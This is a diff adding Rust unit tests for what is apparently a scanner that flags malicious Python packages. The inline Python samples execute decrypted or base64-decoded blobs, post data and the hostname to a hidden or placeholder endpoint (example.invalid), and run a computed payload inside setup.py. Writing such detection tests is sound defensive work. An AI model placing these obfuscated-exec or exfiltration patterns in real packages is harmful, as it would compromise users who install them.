@@ -135,3 +135,25 @@ fn python2_and_broken_code_still_parse() {
     let code = "import base64\nprint 'hello'\nexec base64.b64decode('cHJpbnQoMSk=')\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
     assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
 }
+
+#[test]
+fn decrypt_then_exec() {
+    let code = "from cryptography.fernet import Fernet\nexec(Fernet(b'a2V5').decrypt(b'gAAAAA'))\n";
+    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
+    let code = "from cryptography.fernet import Fernet\nf = Fernet(b'a2V5')\ncode = f.decrypt(b'gAAAAA')\nexec(code)\n";
+    assert!(setup(code).contains(&"py-decode-exec".to_string()), "{:?}", setup(code));
+}
+
+#[test]
+fn hidden_endpoints_and_module_exfil() {
+    let code = "import base64, requests\ndef report(d):\n    requests.post(url=base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=').decode(), json=d)\n";
+    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-hidden-endpoint".to_string()));
+    let code = "import socket, requests\ndef go():\n    requests.post('https://example.invalid', data=socket.gethostname())\n";
+    assert!(rules("pkg/main.py", code, Context::Module).contains(&"py-exfil-hostinfo".to_string()));
+}
+
+#[test]
+fn dynamic_exec_in_setup() {
+    let code = "from setuptools import setup\npayload = compute()\nexec(payload)\nsetup(name='x')\n";
+    assert!(setup(code).contains(&"py-install-dynamic-exec".to_string()), "{:?}", setup(code));
+}
